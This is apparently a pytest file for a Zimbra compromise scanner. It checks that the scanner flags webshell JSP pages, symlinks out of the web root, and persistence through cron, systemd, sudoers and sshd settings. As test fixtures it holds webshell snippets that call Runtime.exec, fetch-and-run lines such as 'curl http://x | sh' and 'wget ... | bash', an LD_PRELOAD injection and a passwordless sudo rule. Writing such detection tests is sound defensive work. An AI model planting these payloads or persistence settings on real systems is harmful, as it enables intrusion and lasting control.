"""Ways to hide from the hunt: links, endings, encodings, folders, long contents."""

import os
from pathlib import Path

import pytest

from tests.integrity.site import WEB, place, put
from tests.integrity.test_hunt import found, rules
from zmward.doors import hunted
from zmward.engine.hunt import hunt
from zmward.integrity.hunting import Process, Subject, classes, process_hits, unseen


def test_pages_without_end_hold_no_hunt_and_are_told(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Pages of NULs take no room on a disk, and each takes its time."""
    looked: list[str] = []

    def begin(folder: int, name: str) -> bytes:
        looked.append(name)
        return hunted.begin(folder, name)

    monkeypatch.setattr("zmward.engine.hunt.begin", begin)
    monkeypatch.setattr("zmward.engine.hunt._MOST", 3 << 20)
    for number in range(20):
        page = put(root, f"{WEB}/zimbra/public/{number:02}.jsp", "")
        os.truncate(page, 1 << 30)
    put(root, f"{WEB}/zimbra/public/short.jsp", '<% Runtime.getRuntime().exec("id");')
    seen = hunt(place(root))
    assert sorted(one for one in looked if one[:2].isdigit() and "jsp" in one) == [
        f"{number:02}.jsp" for number in range(6)
    ]
    missed = dict(seen.missed)
    assert "with 13 more" in missed[f"/{WEB}/zimbra/public/06.jsp"]
    assert seen.code == 3
    assert "page-runs-commands" in {hit.rule for hit in seen.hits}


@pytest.mark.parametrize(
    ("path", "target", "level"),
    [
        (f"{WEB}/zimbra/more", "/opt/zimbra/data/tmp", "alarm link-out-of-the-web"),
        (f"{WEB}/zimbra/more", "../../../data/tmp", "alarm link-out-of-the-web"),
        ("opt/zimbra/lib/ext/more", "/tmp/more", "alarm link-out-of-the-web"),
        ("opt/zimbra/zimlets-deployed/more", "/opt/zimbra/zimlets", "look link-of"),
        ("opt/zimbra/store", "/srv/store", ""),
        ("opt/zimbra/jetty_base/logs", "/opt/zimbra/log", ""),
    ],
)
def test_links_where_programs_are_served(
    root: Path, path: str, target: str, level: str
) -> None:
    (root / path).symlink_to(target)
    found_rules = rules(root)
    assert set(found_rules) == ({f"/{path}"} if level else set())
    assert all(one.startswith(level) for one in found_rules.get(f"/{path}", ()))


@pytest.mark.parametrize("folder", ["jetty", "mailboxd"])
def test_the_web_root_of_an_old_server_is_one(root: Path, folder: str) -> None:
    public = f"opt/zimbra/{folder}/webapps/zimbra/public"
    put(root, f"{public}/9f.jsp", '<% Runtime.getRuntime().exec("id"); %>')
    put(root, f"{public}/login.jsp", "<%@ page %>")
    work = f"opt/zimbra/{folder}/work/zimbra/jsp/org/apache/jsp/public_"
    put(root, f"{work}/gone_jsp.class", "CAFEBABE")
    told = {
        path: {one.split()[1] for one in ones} for path, ones in rules(root).items()
    }
    shell = {"foreign-page", "page-runs-commands", "page-of-no-package"}
    assert told[f"/{public}/9f.jsp"] == shell
    assert told[f"/{work}/gone_jsp.class"] == {"class-without-page"}
    assert f"/{public}/login.jsp" not in told


def test_an_installation_behind_a_link_is_not_called_clean(root: Path) -> None:
    (root / "tmp").mkdir()
    (root / "opt/zimbra").rename(root / "tmp/zimbra")
    (root / "opt/zimbra").symlink_to("/tmp/zimbra")
    seen = hunt(place(root))
    assert seen.code == 3
    assert "/opt/zimbra" in dict(seen.missed)


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("opt/zimbra/log/zmswatch", "known-leftover"),
        ("opt/zimbra/log/.x/y.jsp", "page-in-logs"),
        ("opt/zimbra/jetty_base/temp/y.war", "page-in-logs"),
        (f"{WEB}/status.war", "foreign-web-application"),
        (f"{WEB}/root.xml", "foreign-web-application"),
        (f"{WEB}/.well-known/x.jsp", "foreign-web-application"),
        (f"{WEB}/service/WEB-INF/lib/x.jar", "library-of-no-package"),
        ("opt/zimbra/data/httpd/htdocs/.user.ini", "php-setting-beside-pages"),
    ],
)
def test_no_folder_is_passed_over(root: Path, path: str, rule: str) -> None:
    put(root, path, "x")
    assert rule in {one.split()[1] for one in rules(root)[f"/{path}"]}


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        (
            *("var/spool/cron/atjobs/a00001", "#!/bin/sh\ncurl http://x | sh\n"),
            "job-fetches-code",
        ),
        ("etc/cron.d/x", "* * * * * root python3 -u /tmp/x.py\n", "job-of-hidden"),
        ("etc/cron.d/x", "* * * * * root A=b exec /dev/shm/x\n", "job-of-hidden"),
        (
            *("etc/cron.d/x", "* * * * * root : " + "A" * 9000 + "; curl x | sh\n"),
            "job-fetches-code",
        ),
        (
            "etc/systemd/system/zimbra.service.d/x.conf",
            "[Service]\nExecStartPost=/var/tmp/x\n",
            "unit-of-hidden-program",
        ),
        (
            "usr/local/lib/systemd/system/x.service",
            "[Service]\nEnvironment=LD_PRELOAD=/dev/shm/x.so\n",
            "library-by-setting",
        ),
        (
            "etc/systemd/system-generators/x",
            "#!/bin/sh\nwget -qO- http://x | bash\n",
            "start-fetches-code",
        ),
        ("etc/sudoers", "#include /tmp/x\n", "sudo-reads-elsewhere"),
        ("etc/sudoers", "#999 ALL=(ALL) NOPASSWD: ALL\n", "sudo-by-number"),
        (
            *(
                "etc/ssh/sshd_config.d/x.conf",
                "AuthorizedKeysFile /opt/zimbra/conf/k\n",
            ),
            "keys-read-from-open-place",
        ),
    ],
)
def test_other_ways_to_be_started(root: Path, path: str, text: str, rule: str) -> None:
    put(root, path, text)
    found_rules = {one.split()[1] for one in rules(root)[f"/{path}"]}
    assert any(one.startswith(rule) for one in found_rules)


@pytest.mark.parametrize("code", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_page_in_another_encoding_is_read(code: str) -> None:
    text = '<% Runtime.getRuntime().exec("id"); %>'.encode(code)
    rows = found(Subject(f"/{WEB}/zimbra/h/x.jsp", 0o644, "zimbra", text))
    assert {"page-runs-commands", "page-hides-its-code"} <= rows


def test_the_middle_of_a_long_page_is_not_called_clean(root: Path) -> None:
    path = f"{WEB}/zimbra/h/x.jsp"
    put(root, path, " " * 600_000 + "<% x %>" + " " * 600_000)
    seen = hunt(place(root))
    assert [one for one, _ in seen.missed] == [f"/{path}"]
    assert seen.code == 3


def test_processes_that_cannot_be_seen_are_said() -> None:
    hidden = Process(7, "zimbra", "", there=False)
    assert list(process_hits([hidden])) == []
    assert [path for path, _ in unseen([hidden])] == ["/proc"]
    assert unseen([Process(7, "zimbra", "/bin/x", there=True)]) == ()


def test_a_page_s_class_in_a_folder_of_tags_is_found() -> None:
    work = "/opt/zimbra/jetty_base/work/zimbra/jsp/org/apache/jsp/tag"
    files = [f"{work}/x_jsp.class", f"{work}/web/a/b_tag.class"]
    assert [one.path for one in classes([], files)] == [files[0]]


def test_a_shipped_extension_that_was_swapped_is_found(root: Path) -> None:
    jar = "opt/zimbra/lib/ext/clamscanner/clamscanner.jar"
    assert rules(root) == {}
    put(root, jar, "PK evil")
    assert rules(root) == {f"/{jar}": {"look extension-of-no-package"}}
